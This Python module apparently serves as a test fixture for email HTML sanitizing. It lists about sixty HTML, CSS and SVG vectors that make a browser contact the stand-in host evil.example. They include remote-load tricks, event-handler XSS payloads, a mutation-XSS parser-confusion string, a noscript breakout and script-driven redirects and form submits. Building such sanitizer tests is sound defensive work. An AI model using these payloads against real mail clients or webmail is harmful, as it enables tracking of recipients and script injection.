"""Every way that is known to us to make a browser load something, or run something, by the HTML of a mail."""

from __future__ import annotations

FOREIGN = "evil.example"
_RUN = "new Image().src='{at}'"

VECTORS = {
    "img": '<img src="{at}">',
    "img-relative": '<img src="//evil.example/{name}">',
    "img-srcset": '<img srcset="{at} 1x, {at}2 2x">',
    "img-lazy": '<img src="x" lowsrc="{at}" dynsrc="{at}">',
    "picture": '<picture><source srcset="{at}"><img src="x"></picture>',
    "input": '<input type="image" src="{at}">',
    "body": '<body background="{at}">',
    "table": '<table background="{at}"><tr><td background="{at}2">x</td></tr></table>',
    "style-background": '<div style="background:url({at});height:9px">x</div>',
    "style-escape": '<div style="background:\\75 rl({at});height:9px">x</div>',
    "style-list": '<ul><li style="list-style:url({at})">x</li></ul>',
    "style-content": '<div style="content:url({at})">x</div>',
    "style-border": '<div style="border:9px solid;border-image:url({at}) 3">x</div>',
    "style-mask": '<div style="-webkit-mask:url({at});mask:url({at}2);height:9px">x</div>',
    "style-set": "<div style=\"background:image-set('{at}' 1x);height:9px\">x</div>",
    "style-cursor": '<div style="cursor:url({at}),auto">x</div>',
    "style-shape": '<div style="float:left;shape-outside:url({at})">x</div>',
    "style-filter": '<div style="filter:url({at}#f)">x</div>',
    "css-import": '<style>@import "{at}";</style>',
    "css-font": '<style>@font-face{{font-family:z;src:url({at})}} .z{{font-family:z}}</style><p class="z">x',
    "css-rule": '<style>p{{background:url({at})}}</style><p>x',
    "css-variable": '<style>:root{{--v:url({at})}} p{{background:var(--v)}}</style>',
    "link-style": '<link rel="stylesheet" href="{at}">',
    "link-icon": '<link rel="icon" href="{at}">',
    "link-prefetch": '<link rel="prefetch" href="{at}">',
    "link-preload": '<link rel="preload" as="image" href="{at}">',
    "link-preconnect": '<link rel="preconnect" href="{at}">',
    "link-manifest": '<link rel="manifest" href="{at}">',
    "link-module": '<link rel="modulepreload" href="{at}">',
    "svg-image": '<svg width="9" height="9"><image href="{at}" width="9" height="9"/></svg>',
    "svg-xlink": '<svg><image xlink:href="{at}" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{at}#x"/></svg>',
    "svg-filter": '<svg><filter id="f"><feImage href="{at}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-style": '<svg><style>@import "{at}";</style></svg>',
    "svg-load": '<svg onload="' + _RUN + '"></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="{at}"/></a></svg>',
    "math": '<math><mi xlink:href="{at}">x</mi></math>',
    "video": '<video src="{at}" poster="{at}2" autoplay></video>',
    "audio": '<audio src="{at}" autoplay></audio>',
    "track": '<video autoplay><source src="{at}"><track default src="{at}2"></video>',
    "iframe": '<iframe src="{at}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<img src={at}>"></iframe>',
    "frame": '<frameset><frame src="{at}"></frameset>',
    "object": '<object data="{at}"></object>',
    "embed": '<embed src="{at}">',
    "base": '<base href="http://evil.example/{name}/"><img src="picture">',
    "refresh": '<meta http-equiv="refresh" content="0;url={at}">',
    "script": "<script>" + _RUN + "</script>",
    "script-src": '<script src="{at}"></script>',
    "script-title": "<script>parent.document.title='changed';document.title='changed'</script>",
    "script-top": "<script>top.location='{at}'</script>",
    "onerror": '<img src="x" onerror="' + _RUN + '">',
    "onload": '<body onload="' + _RUN + '">',
    "ontoggle": '<details open ontoggle="' + _RUN + '">x</details>',
    "onfocus": '<input autofocus onfocus="' + _RUN + '">',
    "onanimation": '<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="' + _RUN + '">x',
    "twice-read": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=' + _RUN + '&gt;">',
    "noscript": '<noscript><p title="</noscript><img src={at}>"></noscript>',
    "form": '<form id="f" action="{at}"><input name="x"></form><script>f.submit()</script>',
    "ping": '<a ping="{at}" href="https://evil.example/" id="p">x</a><script>p.click()</script>',
    "comment": '<!--[if !mso]><!--><img src="{at}"><!--<![endif]-->',
    "dns": '<link rel="dns-prefetch" href="//evil.example/">',
}  # fmt: skip


def page_of(names: list[str]) -> str:
    """Return the HTML of these vectors; each asks for a path that is its name."""
    return "\n".join(
        VECTORS[name].format(at=f"http://{FOREIGN}/{name}", name=name) for name in names
    )
